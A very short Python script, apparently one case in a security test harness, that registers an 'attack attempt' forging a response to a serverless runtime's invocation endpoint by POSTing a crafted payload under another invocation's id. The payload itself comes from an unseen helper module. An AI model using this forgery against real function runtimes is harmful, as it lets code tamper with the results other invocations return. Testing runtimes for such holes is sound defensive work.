from attack import attempt, event, forgery, runtime


def forge():
    number, _ = event()
    runtime("POST", f"/2018-06-01/runtime/invocation/{number}/response", forgery())


attempt("response", forge)
